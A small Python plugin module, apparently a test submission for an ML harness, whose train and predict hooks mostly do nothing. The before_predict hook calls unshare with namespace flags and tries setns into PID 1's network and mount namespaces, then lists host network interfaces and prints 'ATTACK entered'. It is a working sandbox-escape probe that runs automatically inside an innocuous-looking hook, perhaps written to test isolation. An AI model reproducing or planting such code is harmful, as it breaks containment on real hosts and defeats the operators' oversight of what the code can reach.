"""Makes a network namespace of its own, or enters another's, and looks at the links."""

import ctypes
import os

FLAGS = (0x40000000, 0x10000000, 0x50000000, 0x00020000, 0x20000000, 0x08000000, 0x02000000)


def before_train(data, model):
    """Nothing."""


def after_train(model):
    """Nothing."""


def before_predict(model, folder):
    libc = ctypes.CDLL(None, use_errno=True)
    made = [hex(flag) for flag in FLAGS if libc.unshare(flag) == 0]
    for path in ("/proc/1/ns/net", "/proc/1/ns/mnt", "/proc/self/ns/net"):
        try:
            made += [path] if libc.setns(os.open(path, os.O_RDONLY), 0) == 0 else []
        except OSError:
            continue
    print("ATTACK entered", made, "links", sorted(os.listdir("/sys/class/net")) if os.path.isdir("/sys/class/net") else [])


def after_predict(output):
    """Nothing."""
